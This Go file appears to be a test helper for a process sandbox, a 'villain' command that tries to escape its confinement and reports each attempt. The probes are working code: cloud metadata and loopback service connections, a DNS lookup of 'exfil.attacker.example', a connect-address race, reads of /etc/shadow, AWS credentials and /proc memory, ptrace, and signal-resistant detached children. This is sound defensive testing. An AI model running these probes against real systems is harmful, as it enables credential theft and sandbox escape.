package confine

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"aurora/providers"
)

// villain is a CLI that was tampered with. It says on stdout what it got.
func villain(part string, args []string) int {
	switch part {
	case "sockets":
		sockets(netip.MustParseAddrPort(args[0]), netip.MustParseAddrPort(args[1]), netip.MustParseAddrPort(args[2]), args[3], args[4])
	case "race":
		race(netip.MustParseAddrPort(args[0]), netip.MustParseAddrPort(args[1]))
	case "hunt":
		hunt(args)
	case "meddle":
		meddle(args[0], args[1])
	case "environ":
		tell("environ", readable("/proc/"+args[0]+"/environ"))
	case "secretive":
		if Hide() != nil {
			return 1
		}
		say(".")
		_, _ = io.Copy(io.Discard, os.Stdin)
	case "exit":
		return exit(args[0])
	case "state":
		state()
	case "hide":
		hide(args[0])
	case "grandchild":
		time.Sleep(time.Minute)
	case "aurora":
		return playAurora(args[0])
	}
	return 0
}

func say(format string, args ...any) { _, _ = fmt.Fprintf(os.Stdout, format, args...) }

func tell(what string, err error) {
	if err != nil {
		say("refused %s: %v\n", what, err)
		return
	}
	say("FOUND %s\n", what)
}

func tried(what string, err error) {
	if err != nil {
		say("%s: refused (%v)\n", what, err)
		return
	}
	say("%s: THROUGH\n", what)
}

func sockets(way, tcp, udp netip.AddrPort, path, abstract string) {
	conn, err := net.Dial("tcp", way.String())
	if err != nil {
		say("proxy: %v\n", err)
		return
	}
	hello, _ := io.ReadAll(conn)
	say("proxy: %s\n", hello)
	double := netip.AddrPortFrom(netip.MustParseAddr("127.0.0.2"), way.Port())
	for what, at := range map[string]string{
		"redis": "127.0.0.1:6379", "vault": "127.0.0.1:8200", "postgresql": "127.0.0.1:5432", "metadata": "169.254.169.254:80",
		"metadata v6": "[fd00:ec2::254]:80", "canary": tcp.String(), "canary v6": "[::ffff:127.0.0.1]:" + strconv.Itoa(int(tcp.Port())),
		"the proxy's port elsewhere": double.String(), "the internet": "203.0.113.7:443",
	} {
		tried(what, rawTCP(netip.MustParseAddrPort(at), 0))
	}
	tried("MPTCP", rawTCP(tcp, 262))
	for what, kind := range map[string][3]int{
		"UDP": {unix.AF_INET, unix.SOCK_DGRAM, 0}, "UDP v6": {unix.AF_INET6, unix.SOCK_DGRAM, 0}, "raw": {unix.AF_INET, unix.SOCK_RAW, 1},
		"ping": {unix.AF_INET, unix.SOCK_DGRAM, 1}, "packet": {unix.AF_PACKET, unix.SOCK_RAW, 0}, "SCTP": {unix.AF_INET, unix.SOCK_STREAM, 132},
		"vsock": {unix.AF_VSOCK, unix.SOCK_STREAM, 0}, "netlink": {unix.AF_NETLINK, unix.SOCK_RAW, 0}, "alg": {unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
	} {
		_, err := unix.Socket(kind[0], kind[1], kind[2])
		tried(what, err)
	}
	_, err = net.Dial("unix", path)
	tried("unix", err)
	_, err = net.Dial("unix", abstract)
	tried("abstract unix", err)
	tried("datagram", datagram(udp))
	tried("fast open", fastOpen(tcp))
	_, err = net.Listen("tcp", "127.0.0.1:0")
	tried("listen", err)
	var params [120]byte
	_, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params)), 0)
	tried("io_uring", fault(errno))
	_, err = net.DefaultResolver.LookupHost(neverEnds{}, "exfil.attacker.example")
	tried("DNS", err)
}

// neverEnds is a context without a package's help.
type neverEnds struct{}

func (neverEnds) Deadline() (time.Time, bool) { return time.Now().Add(5 * time.Second), true }
func (neverEnds) Done() <-chan struct{}       { return nil }
func (neverEnds) Err() error                  { return nil }
func (neverEnds) Value(any) any               { return nil }

func fault(errno syscall.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

func rawTCP(at netip.AddrPort, protocol int) error {
	family, to := unix.AF_INET6, unix.Sockaddr(&unix.SockaddrInet6{Port: int(at.Port()), Addr: at.Addr().As16()})
	if at.Addr().Is4() {
		family, to = unix.AF_INET, &unix.SockaddrInet4{Port: int(at.Port()), Addr: at.Addr().As4()}
	}
	fd, err := unix.Socket(family, unix.SOCK_STREAM, protocol)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 1})
	return unix.Connect(fd, to)
}

func datagram(at netip.AddrPort) error {
	conn, err := net.Dial("udp", at.String())
	if err != nil {
		return err
	}
	_, err = conn.Write([]byte("x"))
	return err
}

func fastOpen(at netip.AddrPort) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(fd) }()
	return unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, &unix.SockaddrInet4{Port: int(at.Port()), Addr: at.Addr().As4()})
}

// race changes the port in the address while it is connected to.
func race(way, tcp netip.AddrPort) {
	raw := unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: [4]byte{127, 0, 0, 1}}
	port := (*uint32)(unsafe.Pointer(&raw)) // family and port, changed at once
	word := func(p uint16) uint32 { return uint32(unix.AF_INET) | uint32(p>>8)<<16 | uint32(p&0xff)<<24 }
	var over atomic.Bool
	go func() {
		for !over.Load() {
			atomic.StoreUint32(port, word(tcp.Port()))
			atomic.StoreUint32(port, word(way.Port()))
		}
	}()
	through, refused := 0, 0
	for end := time.Now().Add(2 * time.Second); time.Now().Before(end); {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			say("%v\n", err)
			return
		}
		_, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&raw)), unix.SizeofSockaddrInet4)
		if errno == 0 {
			through++
		} else {
			refused++
		}
		_ = unix.Close(fd)
	}
	over.Store(true)
	if through > 0 && refused > 0 {
		say("both: %d %d\n", through, refused)
	}
}

func readable(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }()
	if _, err := f.Read(make([]byte, 1)); err != nil && err != io.EOF {
		return err
	}
	return nil
}

func hunt(args []string) {
	home := args[2]
	for _, pid := range append(args[:2:2], strconv.Itoa(os.Getppid()), "self", "1") {
		for _, file := range []string{"environ", "maps", "mem", "cmdline"} {
			tell(pid+" "+file, readable("/proc/"+pid+"/"+file))
		}
	}
	for _, path := range []string{home, home + "/open", home + "/data/credentials.age", home + "/data/credentials.key", home + "/run-2/files/token",
		"/proc", "/tmp", "/root", "/home", "/etc/shadow", "/var/run", "/var/lib", "/etc/environment", "/dev/shm", "/root/.aws/credentials", "/root/.bash_history"} {
		if _, err := os.Lstat(path); err == nil {
			tell(path, readable(path))
			_, err = os.ReadDir(path)
			tell("list "+path, err)
		}
	}
	tell("write beside", os.WriteFile(home+"/planted", nil, 0o600))
	tell("write to /tmp", os.WriteFile("/tmp/planted", nil, 0o600))
	if pid, err := strconv.Atoi(args[1]); err == nil {
		tell("trace", unix.PtraceAttach(pid))
		tell("signal", syscall.Kill(pid, 0))
	}
	tell("signal the keeper", syscall.Kill(os.Getppid(), 0))
	tell("new namespaces", unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNS))
	own := filepath.Join(os.Getenv("HOME"), "own")
	if err := os.WriteFile(own, []byte("x"), 0o600); err == nil && readable(own) == nil && os.Remove(own) == nil {
		say("own file: works\n")
	}
}

// meddle changes what is about a file, not what is in it, and the limits of another process; by name, and by a file that
// is open for reading.
func meddle(path, pid string) {
	times := []unix.Timespec{{Sec: 1}, {Sec: 1}}
	say("chmod %v\n", errors.Join(os.Chmod(path, 0), unix.Fchmodat(unix.AT_FDCWD, path, 0, 0)))
	say("chown %v\n", errors.Join(os.Chown(path, 12345, 12345), os.Lchown(path, 12345, 12345)))
	say("times %v\n", errors.Join(os.Chtimes(path, time.Unix(1, 0), time.Unix(1, 0)), unix.UtimesNanoAt(unix.AT_FDCWD, path, times, 0)))
	say("attributes %v\n", unix.Setxattr(path, "user.aurora", []byte("x"), 0))
	tried("truncate", os.Truncate(path, 0))
	if f, err := os.Open(path); err == nil {
		say("open: %v\n", errors.Join(f.Chmod(0), f.Chown(12345, 12345), unix.Fsetxattr(int(f.Fd()), "user.aurora", []byte("x"), 0)))
		_ = f.Close()
	}
	if number, err := strconv.Atoi(pid); err == nil {
		tried("limit", unix.Prlimit(number, unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 1, Max: 1}, nil))
	}
	own := os.Getenv("HOME") + "/own"
	say("own file: %v\n", errors.Join(os.WriteFile(own, []byte("own"), 0o600), os.WriteFile(own, []byte("x"), 0o600), os.Chmod(own, 0o640)))
	f, err := os.OpenFile(own, os.O_RDWR, 0)
	say("own file cut: %v\n", errors.Join(err, f.Truncate(0), f.Close()))
}

func exit(how string) int {
	status, err := strconv.Atoi(how)
	if err == nil {
		return status
	}
	signal := map[string]syscall.Signal{"segv": syscall.SIGSEGV, "kill": syscall.SIGKILL}[how]
	if signal == syscall.SIGSEGV { // the runtime would make an exit of it
		var action [32]byte
		_, _, _ = unix.RawSyscall6(unix.SYS_RT_SIGACTION, uintptr(signal), uintptr(unsafe.Pointer(&action)), 0, 8, 0, 0)
	}
	_ = syscall.Kill(os.Getpid(), signal)
	select {}
}

func state() {
	for name, what := range map[string]int{"core": unix.RLIMIT_CORE, "files": unix.RLIMIT_NOFILE, "size": unix.RLIMIT_FSIZE} {
		var r unix.Rlimit
		_ = unix.Getrlimit(what, &r)
		say("%s %d %d\n", name, r.Cur, r.Max)
	}
	if v, err := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0); err == nil && v == 1 {
		say("new privileges: no\n")
	}
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var caps [2]unix.CapUserData
	_ = unix.Capget(&header, &caps[0])
	say("capabilities: %d %d %d\n", caps[0].Effective|caps[1].Effective, caps[0].Permitted|caps[1].Permitted, caps[0].Inheritable|caps[1].Inheritable)
	tried("executes /bin/sh", exec.Command("/bin/sh", "-c", "exit 0").Run())
}

// hide starts a child that leaves the group and the session, and whose parent dies at once.
func hide(how string) {
	child := exec.Command(os.Args[0], "villain", "grandchild")
	child.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := child.Start(); err != nil {
		say("%v\n", err)
		return
	}
	home := os.Getenv("HOME")
	_ = os.WriteFile(home+"/part", []byte(strconv.Itoa(child.Process.Pid)), 0o600)
	_ = os.Rename(home+"/part", home+"/grandchild")
	if how == "stubborn" {
		ignore()
	}
	for tick := time.Tick(5 * time.Millisecond); ; <-tick {
		if _, err := os.Stat(home + "/go"); err == nil {
			return
		}
	}
}

func ignore() {
	var action [32]byte
	action[0] = 1 // SIG_IGN
	_, _, _ = unix.RawSyscall6(unix.SYS_RT_SIGACTION, uintptr(syscall.SIGTERM), uintptr(unsafe.Pointer(&action)), 0, 8, 0, 0)
}

// playAurora runs a hiding program until it is killed itself.
func playAurora(dir string) int {
	cmd := exec.Command(os.Args[0], "villain", "hide", "stubborn")
	cmd.Dir, cmd.Env = dir, []string{"HOME=" + dir}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := Examine().Sandbox(cmd, providers.Bounds{Dir: dir, Read: []string{os.Args[0]}}); err != nil {
		return 1
	}
	if err := cmd.Run(); err != nil {
		return 1
	}
	return 0
}
